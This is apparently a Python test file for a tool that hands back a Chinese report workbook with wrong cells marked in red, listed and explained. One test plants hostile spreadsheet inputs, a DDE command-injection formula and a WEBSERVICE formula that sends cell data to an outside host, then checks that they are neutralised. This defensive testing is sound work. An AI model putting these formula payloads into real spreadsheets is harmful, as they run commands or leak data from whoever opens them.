"""The workbook handed back: what was wrong is red and told, nothing hostile is carried over."""

import io
import os
import time
import zipfile
from datetime import date
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from metrics.workbooks import marks
from metrics.workbooks.book import Refused
from metrics.workbooks.marks import marked
from metrics.workbooks.mistakes import Mistake
from tests.unit.workbooks.forms import back, blank_form, edited, filled, places, said
from tests.unit.workbooks.test_guard import minimal

PADDING = {"xl/noise.txt": os.urandom(100_000)}


def returned(data: bytes) -> tuple[bytes, Any]:
    handed = marked(data, back(data).mistakes, "月报.xlsx")
    return handed, load_workbook(io.BytesIO(handed))


def test_the_list_comes_first_and_leads_to_the_cells() -> None:
    _, workbook = returned(filled({"J8": "很多", "J10": "=1+1"}))
    assert workbook.sheetnames[0] == "错误清单"
    rows = list(workbook["错误清单"].iter_rows(min_col=2, values_only=True))
    assert rows[1][0] == "内部资料　演示数据"
    assert "共2处" in rows[3][0]
    assert rows[4] == ("序号", "工作表", "单元格", "错在哪里", "怎么改")
    assert rows[5][:3] == (1, "历下区", "J8")
    assert rows[6][2:] == ("J10", "这一格是公式 =1+1。", "请改为数值：复制后选择性粘贴为数值。")
    assert workbook["错误清单"]["D6"].hyperlink.location == "'历下区'!J8"


def test_wrong_cells_are_red_and_say_why() -> None:
    _, workbook = returned(filled({"J8": "很多"}))
    cell = workbook["历下区"]["J8"]
    assert cell.value == "很多"
    assert cell.style == "wrong"
    assert "不是数字" in cell.comment.text
    assert not cell.protection.locked
    assert workbook["历下区"]["J10"].style == "entry"
    assert workbook["历下区"]["J10"].comment is None


def test_put_right_and_sent_again_it_is_read() -> None:
    handed, _ = returned(filled({"J8": "很多", "J10": "=1+1"}))

    def put_right(workbook: Workbook) -> None:
        workbook["历下区"]["J8"], workbook["历下区"]["J10"] = 5, 6

    found = back(edited(put_right, handed))
    assert found.mistakes == []
    assert said(found) == {"registered": "5", "cases": "6"}


@pytest.mark.parametrize("value", ["=1+1", "abc", True, date(2019, 12, 3), 12.5, "#N/A"])
def test_left_as_it_is_it_is_wrong_again(value: Any) -> None:
    handed, workbook = returned(filled({"J10": value}))
    assert places(back(handed)) == ["历下区!J10"]
    again, workbook = returned(handed)
    assert workbook.sheetnames.count("错误清单") == 1
    assert len(workbook.sheetnames) == 5
    assert places(back(again)) == ["历下区!J10"]


def test_merged_figures_stay_merged_until_taken_apart() -> None:
    data = edited(lambda workbook: workbook["历下区"].merge_cells("J10:J11"))
    handed, _ = returned(data)
    assert places(back(handed)) == ["历下区!J10"]


def test_nothing_runs_or_leads_outside_in_what_is_handed_back() -> None:
    def hostile(workbook: Workbook) -> None:
        sheet = workbook["历下区"]
        sheet["J8"] = '=WEBSERVICE("http://example.org/"&A1)'
        sheet["C10"].hyperlink = "http://example.org/"
        other = workbook.create_sheet("底稿")
        other["A1"] = "=cmd|' /C calc'!A0"
        other["A2"] = '=HYPERLINK("http://example.org/","点这里")'

    handed, workbook = returned(edited(hostile))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert workbook["底稿"]["A1"].value.startswith("'=")
    with zipfile.ZipFile(io.BytesIO(handed)) as package:
        relations = [package.read(name) for name in package.namelist() if name.endswith(".rels")]
    assert not any(b"External" in relation for relation in relations)


def test_a_form_that_is_wrong_as_a_whole_is_handed_back_with_the_reason() -> None:
    data = edited(lambda workbook: workbook.remove(workbook["_meta"]))
    _, workbook = returned(data)
    assert workbook["错误清单"]["D6"].value == "整个文件"


def test_the_guard_stands_before_it() -> None:
    with pytest.raises(Refused):
        marked(b"not a workbook", [], "a.xlsx")


@pytest.mark.parametrize("number", ["1e999999", "1e-999999", "9" * 30, "NaN", "Infinity"])
def test_numbers_beyond_all_reason_come_back_as_text(number: str) -> None:
    row = f'<row r="1"><c r="A1"><v>{number}</v></c></row>'
    begun = time.process_time()
    workbook = load_workbook(io.BytesIO(marked(minimal(f"<sheetData>{row}</sheetData>"), [])))
    assert workbook["表"]["A1"].value
    assert time.process_time() - begun < 5


def test_a_form_of_nothing_but_headings_is_dressed_in_time() -> None:
    def row(*texts: str) -> str:
        return "<row>" + "".join(f'<c t="str"><v>{text}</v></c>' for text in texts) + "</row>"

    titles = row("#title", "x") * 5_000
    data = minimal(f"<sheetData>{row('#month 1', 'name', 'value')}{titles}</sheetData>", PADDING)
    begun = time.process_time()
    assert marked(data, [])
    assert time.process_time() - begun < 10


def test_thousands_of_mistakes_are_listed_and_some_marked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(marks, "_MOST_LISTED", 20)
    monkeypatch.setattr(marks, "_MOST_COMMENTS", 5)
    mistakes = [Mistake("历下区", f"J{row}", "错。") for row in range(20, 52)]
    workbook = load_workbook(io.BytesIO(marked(blank_form(), mistakes)))
    assert "共32处" in workbook["错误清单"]["B4"].value
    assert workbook["错误清单"].max_row == 25
    commented = [cell for row in workbook["历下区"].iter_rows() for cell in row if cell.comment]
    assert len(commented) == 5


def test_a_workbook_too_large_to_hand_on_comes_back_as_a_list(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(marks, "_MOST_CELLS", 10)
    mistakes = [Mistake("历下区", "J8", "错。")]
    workbook = load_workbook(io.BytesIO(marked(blank_form(), mistakes)))
    assert workbook.sheetnames == ["错误清单"]
